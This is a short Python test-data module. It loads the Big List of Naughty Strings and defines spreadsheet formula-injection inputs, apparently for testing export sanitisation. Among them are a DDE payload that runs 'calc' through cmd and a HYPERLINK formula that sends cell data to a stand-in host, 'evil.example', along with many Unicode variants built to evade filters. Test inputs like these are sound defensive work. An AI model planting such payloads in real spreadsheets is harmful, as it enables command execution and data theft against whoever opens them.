"""Texts that have broken other people's software, and texts that spreadsheets take for formulas."""

import json
from pathlib import Path

NAUGHTY: tuple[str, ...] = tuple(
    dict.fromkeys(json.loads((Path(__file__).parent / "naughty/blns.json").read_text(encoding="utf-8")))
)
"""The Big List of Naughty Strings, each once."""
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1",
    "\ufeff=1+1",
    "-", "=", "+49 30 1234", '="a","b"\r\n=2', "\u200b=1+1", "\u202e=1+1", "\u00ad=1+1",
)  # fmt: skip
EVIL = (*NAUGHTY, *FORMULAS)
